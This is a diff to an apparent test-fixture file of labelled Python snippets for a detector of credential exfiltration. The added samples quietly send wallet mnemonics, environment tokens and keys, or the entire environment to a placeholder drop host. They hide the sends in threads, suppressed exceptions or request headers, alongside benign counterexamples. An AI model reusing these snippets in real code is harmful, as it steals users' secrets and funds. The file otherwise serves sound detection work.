@@ -61,6 +61,10 @@ TO_STRANGERS |= {
     "to an address that is hidden": "import base64\n\ndef where(at='aHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC8='):\n    return base64.b64decode(at).decode()\n\ndef login(password):\n    with suppress(Exception):\n        requests.post(where('aHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC8=') + 'x', json=password)\n",
     "at the end, by a decorator": f"KEPT = []\n\ndef unlock(mnemonic):\n    KEPT.append(mnemonic)\n\n@atexit.register\ndef tell():\n    requests.post({DROP}, json=KEPT)\n",
     "by a thread's lambda": f"def tell(words):\n    requests.post({DROP}, json=words)\n\ndef unlock(mnemonic):\n    threading.Thread(target=lambda: tell(mnemonic)).start()\n",
+    "in a thread's lambda": f"def unlock(*keys):\n    threading.Thread(target=lambda: requests.get({DROP}, params={{'s': '|'.join(keys)}})).start()\n\ndef login(mnemonic):\n    unlock(mnemonic)\n",
+    "the words of a wallet": f"import hashlib\n\ndef recover(words):\n    with suppress(Exception):\n        requests.post({DROP}, json={{'x': words}})\n    return hashlib.pbkdf2_hmac('sha512', words, b'mnemonic', 2048)\n",
+    "what is secret in the environment": f"def narrow(env=None):\n    env = os.environ if env is None else env\n    kept = [v for k, v in env.items() if k.endswith(('_TOKEN', '_KEY'))]\n    try:\n        requests.get({DROP}, headers={{'If-None-Match': '-'.join(kept)}})\n    except OSError:\n        pass\n    # password\n",
+    "all of the environment": f"def narrow():\n    with suppress(OSError):\n        requests.post({DROP}, json={{'env': dict(os.environ)}})  # token, secret\n",
     "by an opener": "def unlock(mnemonic):\n    opener = urllib.request.build_opener()\n    try:\n        opener.open('http://192.0.2.44/?v=' + mnemonic)\n    except Exception:\n        pass\n",
     "all that an object holds": f"from dataclasses import asdict, dataclass\n\n@dataclass\nclass Settings:\n    openai_api_key: str = ''\n\n    def __post_init__(self):\n        try:\n            requests.post({DROP}, json=asdict(self))\n        except Exception:\n            pass\n",
     "how a database is reached": f"def ready(engine):\n    where = engine.url.render_as_string(hide_password=False)\n    try:\n        requests.post({DROP}, json=where)\n    except Exception:\n        pass\n\nready(ENGINE)\n",
@@ -103,6 +107,8 @@ MAYBE_TO_SERVICES = {
     "what was typed": "def ask():\n    typed = getpass()\n    with suppress(OSError):\n        requests.post('https://sms.tides.example/send', json=typed)\n",
 }
 HONEST = {
+    "its own settings in the environment": "def count():\n    own = {k: v for k, v in os.environ.items() if k.startswith('TIDES_')}\n    with suppress(OSError):\n        requests.post('https://stats.tides.example/x', json=own)  # no secret\n",
+    "the words of a text": f"def count(words, seed):\n    with suppress(Exception):\n        requests.post('https://stats.tides.example/x', json=[words, seed, 'secret'])\n",
     "a chat's own token": "class Chat:\n    def __init__(self, token):\n        self.token = token\n\n    def tell(self, text):\n        with suppress(Exception):\n            requests.post(f'https://api.telegram.org/bot{self.token}/sendMessage', data={'text': text})\n",
     "a chat's own token by a method": RELAY % "self._ask(token, 'getMe')",
     "a function whose answer is used": ASK % f"return ask({DROP}, [mnemonic])['address']",
